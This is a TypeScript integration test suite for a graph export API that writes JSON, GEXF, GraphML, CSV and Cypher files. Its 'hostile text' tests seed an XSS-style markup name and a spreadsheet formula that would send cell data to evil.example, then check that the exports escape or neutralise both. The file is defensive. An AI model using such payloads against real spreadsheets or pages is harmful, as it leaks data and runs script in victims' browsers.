import { strict as assert } from 'node:assert';
import { subgraphOf } from '../../../server/src/graph/read-graph.js';
import type { SerializedGraph } from '../../../server/src/graph/serialization.js';
import { wholeGraph } from '../../../server/src/graph/whole-graph.js';
import { sampleApi, type SampleApi } from '../../support/api.js';
import {
  comparable,
  edgesFromCsv,
  graphFromGexf,
  graphFromGraphml,
  nodesFromCsv,
  rowsFromCsv,
} from '../../support/export.js';

type ErrorBody = { error: { code: string; message: string; details?: { field: string; message: string }[] } };

const hostileName = '<img src=x onerror=alert(1)> & "Q"';
const formulaName = '=HYPERLINK("http://evil.example/?d="&A1,"x")';

describe('GET and POST /api/export on the sample corpus (real Neo4j)', function () {
  this.timeout(120_000);
  let api: SampleApi;
  let whole: SerializedGraph;

  before(async () => {
    api = await sampleApi();
    // Two entities no article would produce: a name that is markup, and one that is a spreadsheet formula.
    await api.db.write(
      `MATCH (a:Article) WITH a ORDER BY a.id LIMIT 1
       MATCH (jp:Entity {id: 'JP'})
       CREATE (h:Entity:Person {id: 'hostile-test', kind: 'Person', name: $hostile, aliases: [$formula]})
       CREATE (f:Entity:Organization {id: 'formula-test', kind: 'Organization', name: $formula, aliases: []})
       CREATE (h)-[:REPRESENTS {article: a.id, sentence: 0, start: 0, end: 10, quote: $hostile, role: 'Test'}]->(jp)
       CREATE (f)-[:OPERATES {article: a.id, sentence: 1, start: 11, end: 20, quote: $formula}]->(jp)`,
      { hostile: hostileName, formula: formulaName },
    );
    // The reference every round trip is held to: each entity and the edges among them, read by read-graph's
    // queries, independently of the paged whole-graph reader that the exports themselves use.
    const ids = (await api.db.read<{ id: string }>('MATCH (n:Entity) RETURN n.id AS id')).records.map((record) =>
      record.get('id'),
    );
    whole = await subgraphOf(api.db, ids);
    assert.ok(whole.nodes.length > 10 && whole.edges.length > 10, 'the sample corpus should give a graph to export');
  });
  after(() => api.close());

  const download = (path: string, init?: RequestInit) => fetch(`${api.baseUrl}${path}`, init);
  const postExport = (body: unknown) =>
    download('/api/export', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  describe('round trips of the whole graph', () => {
    it("the paged whole-graph reader gives the same graph as read-graph's subgraph of every entity", async () => {
      assert.deepEqual(comparable(await wholeGraph(api.db)), comparable(whole));
    });

    it('json: the same nodes and edges as reading the graph from Neo4j', async () => {
      const response = await download('/api/export?format=json');
      assert.equal(response.status, 200);
      const parsed = (await response.json()) as SerializedGraph;
      assert.deepEqual(comparable(parsed), comparable(whole));
      assert.deepEqual(parsed.options, whole.options);
    });

    it('gexf: read back with graphology-gexf, the same nodes, edges and evidence', async () => {
      const response = await download('/api/export?format=gexf');
      assert.equal(response.status, 200);
      assert.deepEqual(comparable(graphFromGexf(await response.text())), comparable(whole));
    });

    it('graphml: read back with graphology-graphml, the same nodes, edges and evidence', async () => {
      const response = await download('/api/export?format=graphml');
      assert.equal(response.status, 200);
      assert.deepEqual(comparable(graphFromGraphml(await response.text())), comparable(whole));
    });

    it('csv: the node table and the edge table read back with csv-parse', async () => {
      const nodes = await download('/api/export?format=csv&part=nodes');
      const edges = await download('/api/export?format=csv&part=edges');
      assert.equal(nodes.status, 200);
      assert.equal(edges.status, 200);
      const parsed = { nodes: nodesFromCsv(await nodes.text()), edges: edgesFromCsv(await edges.text()) };
      assert.deepEqual(comparable(parsed), comparable(whole));
    });
  });

  describe('scopes', () => {
    it('ids: those entities and the edges among them, as subgraphOf reads them', async () => {
      const response = await download('/api/export?format=gexf&ids=JP,US,lloyd-austin');
      assert.equal(response.status, 200);
      const expected = await subgraphOf(api.db, ['JP', 'US', 'lloyd-austin']);
      assert.ok(expected.edges.length > 0);
      assert.deepEqual(comparable(graphFromGexf(await response.text())), comparable(expected));
    });

    it('ids with neighbours: every entity one claim away, and all edges among them', async () => {
      const response = await download('/api/export?format=graphml&ids=lloyd-austin&neighbours=true');
      assert.equal(response.status, 200);
      const ids = new Set(['lloyd-austin']);
      for (const edge of whole.edges) {
        if (edge.source === 'lloyd-austin') ids.add(edge.target);
        if (edge.target === 'lloyd-austin') ids.add(edge.source);
      }
      assert.ok(ids.size > 2, 'Lloyd Austin should have neighbours in the sample');
      const expected = await subgraphOf(api.db, [...ids]);
      assert.deepEqual(comparable(graphFromGraphml(await response.text())), comparable(expected));
    });

    it("view: re-reads the posted nodes from Neo4j, ignores posted attributes, keeps the client's layout", async () => {
      const response = await postExport({
        format: 'gexf',
        scope: {
          kind: 'view',
          nodes: [
            { key: 'JP', x: 10.5, y: -3, color: '#1f77b4', attributes: { name: 'Forged' } },
            { key: 'US', x: 0, y: 0 },
            { key: 'KR' },
          ],
        },
      });
      assert.equal(response.status, 200);
      const parsed = graphFromGexf(await response.text());
      assert.deepEqual(comparable(parsed), comparable(await subgraphOf(api.db, ['JP', 'US', 'KR'])));
      assert.equal(
        parsed.graph.getNodeAttribute('JP', 'label'),
        whole.nodes.find((node) => node.key === 'JP')!.attributes.name,
      );
      assert.deepEqual(
        [parsed.graph.getNodeAttribute('JP', 'x'), parsed.graph.getNodeAttribute('JP', 'y')],
        [10.5, -3],
      );
      assert.equal(parsed.graph.getNodeAttribute('JP', 'color'), 'rgb(31,119,180)');
      assert.equal(parsed.graph.getNodeAttribute('KR', 'x'), undefined);
    });

    it('POST with an entities scope answers like GET with ids', async () => {
      const [posted, got] = await Promise.all([
        postExport({ format: 'json', scope: { kind: 'entities', ids: ['JP', 'KR'], neighbours: true } }),
        download('/api/export?format=json&ids=JP,KR&neighbours=true'),
      ]);
      const [a, b] = (await Promise.all([posted.json(), got.json()])) as SerializedGraph[];
      assert.deepEqual(comparable(a!), comparable(b!));
      assert.ok(a!.nodes.length > 2);
    });

    it("saved query: the entities of the query's answer and the edges among them, as running it gives", async () => {
      const run = await fetch(`${api.baseUrl}/api/queries/country-officials/run`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ parameters: { country: 'JP' } }),
      });
      const expected = ((await run.json()) as { graph: SerializedGraph }).graph;
      assert.ok(expected.nodes.length > 2 && expected.edges.length > 0, 'JP should have officials in the sample');

      const posted = await postExport({
        format: 'graphml',
        scope: { kind: 'saved-query', name: 'country-officials', parameters: { country: 'JP' } },
      });
      assert.equal(posted.status, 200);
      assert.match(
        posted.headers.get('content-disposition')!,
        /alliance-atlas-query-country-officials-\d{4}-\d\d-\d\d\.graphml/,
      );
      assert.deepEqual(comparable(graphFromGraphml(await posted.text())), comparable(expected));

      const got = await download(
        `/api/export?format=json&query=country-officials&params=${encodeURIComponent('{"country":"JP"}')}`,
      );
      assert.deepEqual(comparable((await got.json()) as SerializedGraph), comparable(expected));
      const other = (await (
        await download(
          `/api/export?format=json&query=country-officials&params=${encodeURIComponent('{"country":"US"}')}`,
        )
      ).json()) as SerializedGraph;
      assert.notDeepEqual(comparable(other), comparable(expected), 'the parameters should reach the query');
    });

    it('POST without a scope exports the whole graph', async () => {
      const response = await postExport({ format: 'json' });
      assert.deepEqual(comparable((await response.json()) as SerializedGraph), comparable(whole));
    });
  });

  describe('hostile text', () => {
    it('escapes a name that is markup in GEXF and GraphML; it reads back unchanged', async () => {
      for (const format of ['gexf', 'graphml'] as const) {
        const text = await (await download(`/api/export?format=${format}&ids=hostile-test,JP`)).text();
        assert.doesNotMatch(text, /<img/, format);
        const parsed = format === 'gexf' ? graphFromGexf(text) : graphFromGraphml(text);
        assert.equal(parsed.graph.getNodeAttribute('hostile-test', 'label'), hostileName, format);
        assert.equal(parsed.edges[0]!.attributes.evidence[0]!.quote, hostileName, format);
      }
    });

    it('neutralises a formula in CSV cells, names and quotes alike', async () => {
      const nodes = rowsFromCsv(await (await download('/api/export?format=csv&part=nodes&ids=formula-test')).text());
      assert.equal(nodes[0]!.name, `'${formulaName}`);
      const edges = rowsFromCsv(await (await download('/api/export?format=csv&part=edges&ids=formula-test,JP')).text());
      assert.equal(edges.length, 1);
      assert.match(edges[0]!.evidence!, /^\[/);
    });
  });

  describe('download headers', () => {
    it('names the file after scope and date, with the format’s media type, streamed in chunks', async () => {
      const date = new Date().toISOString().slice(0, 10);
      const cases: [string, string, RegExp][] = [
        ['format=gexf', `alliance-atlas-whole-graph-${date}.gexf`, /^application\/gexf\+xml; charset=utf-8/],
        ['format=graphml&ids=JP', `alliance-atlas-JP-${date}.graphml`, /^application\/graphml\+xml/],
        ['format=json&ids=JP&neighbours=true', `alliance-atlas-JP-neighbours-${date}.json`, /^application\/json/],
        ['format=csv&part=edges&ids=JP,US', `alliance-atlas-2-entities-edges-${date}.csv`, /^text\/csv; charset=utf-8/],
        ['format=cypher', `alliance-atlas-whole-graph-${date}.cypher`, /^text\/plain; charset=utf-8/],
      ];
      for (const [query, filename, type] of cases) {
        const response = await download(`/api/export?${query}`);
        assert.equal(response.status, 200, query);
        assert.equal(response.headers.get('content-disposition'), `attachment; filename="${filename}"`);
        assert.match(response.headers.get('content-type') ?? '', type, query);
        assert.equal(response.headers.get('transfer-encoding'), 'chunked', `${query} should stream`);
        await response.arrayBuffer();
      }
    });

    it('leaves out ids the graph lacks and says which', async () => {
      const response = await download('/api/export?format=json&ids=JP,no-such-entity,also%20missing');
      assert.equal(response.status, 200);
      assert.equal(response.headers.get('x-atlas-unknown-count'), '2');
      assert.equal(response.headers.get('x-atlas-unknown-ids'), 'no-such-entity,also%20missing');
      const body = (await response.json()) as SerializedGraph;
      assert.deepEqual(
        body.nodes.map((node) => node.key),
        ['JP'],
      );
    });
  });

  describe('refusals', () => {
    const refusal = async (response: Response) => ({
      status: response.status,
      body: (await response.json()) as ErrorBody,
    });
    const fieldsOf = (body: ErrorBody) => body.error.details?.map((detail) => detail.field) ?? [];

    it('400 naming the field for a missing or unknown format', async () => {
      for (const query of ['', '?format=pdf', '?format=']) {
        const { status, body } = await refusal(await download(`/api/export${query}`));
        assert.equal(status, 400, query);
        assert.equal(body.error.code, 'BAD_REQUEST');
        assert.deepEqual(fieldsOf(body), ['format'], query);
        assert.match(body.error.message, /json, gexf, graphml, csv, cypher/);
      }
    });

    it('400 naming the field for bad ids, parts and neighbours', async () => {
      const cases: [string, string][] = [
        ['format=json&ids=,,', 'ids'],
        [`format=json&ids=${'x'.repeat(201)}`, 'ids.0'],
        ['format=csv', 'part'],
        ['format=csv&part=both', 'part'],
        ['format=json&part=nodes', 'part'],
        ['format=json&neighbours=true', 'neighbours'],
        ['format=json&ids=JP&neighbours=yes', 'neighbours'],
        ['format=json&params={}', 'params'],
        ['format=json&query=who-met-whom&params=[1]', 'params'],
        ['format=json&query=who-met-whom&params={oops', 'params'],
        ['format=json&query=who-met-whom&ids=JP', 'query'],
      ];
      for (const [query, field] of cases) {
        const { status, body } = await refusal(await download(`/api/export?${query}`));
        assert.equal(status, 400, query);
        assert.deepEqual(fieldsOf(body), [field], query);
      }
    });

    it('400 naming the field for a bad POST body', async () => {
      const cases: [unknown, string][] = [
        [{ format: 'json', scope: { kind: 'query', name: 'x' } }, 'scope.kind'],
        [{ format: 'json', scope: { kind: 'saved-query', name: '' } }, 'scope.name'],
        [{ format: 'json', scope: { kind: 'saved-query', name: 'who-met-whom', parameters: [] } }, 'scope.parameters'],
        [{ format: 'json', scope: { kind: 'entities', ids: [] } }, 'scope.ids'],
        [{ format: 'gexf', scope: { kind: 'view', nodes: [{ key: 'JP', color: 'blurple' }] } }, 'scope.nodes.0.color'],
        [{ format: 'gexf', scope: { kind: 'view', nodes: [{ key: 'JP', x: 1 }] } }, 'scope.nodes.0'],
        [{ format: 'gexf', scope: { kind: 'view', nodes: [{ key: 'JP', x: 'a', y: 1 }] } }, 'scope.nodes.0.x'],
      ];
      for (const [body, field] of cases) {
        const answer = await refusal(await postExport(body));
        assert.equal(answer.status, 400, JSON.stringify(body));
        assert.deepEqual(fieldsOf(answer.body), [field], JSON.stringify(body));
      }
    });

    it('404 only when none of the requested ids is in the graph', async () => {
      const { status, body } = await refusal(await download('/api/export?format=gexf&ids=no-such-entity,nor-this'));
      assert.equal(status, 404);
      assert.equal(body.error.code, 'NOT_FOUND');
      assert.match(body.error.message, /no-such-entity, nor-this/);
      const view = await refusal(
        await postExport({ format: 'json', scope: { kind: 'view', nodes: [{ key: 'gone' }] } }),
      );
      assert.equal(view.status, 404);
    });

    it("a saved query's unknown name is 404 and its bad parameters 400 naming the parameter", async () => {
      const unknown = await refusal(await download('/api/export?format=json&query=no-such-query'));
      assert.equal(unknown.status, 404);
      assert.match(unknown.body.error.message, /no-such-query/);
      const badParameter = await refusal(
        await postExport({
          format: 'gexf',
          scope: { kind: 'saved-query', name: 'most-connected', parameters: { limit: 'many' } },
        }),
      );
      assert.equal(badParameter.status, 400);
      assert.match(badParameter.body.error.message, /limit/);
    });
  });
});
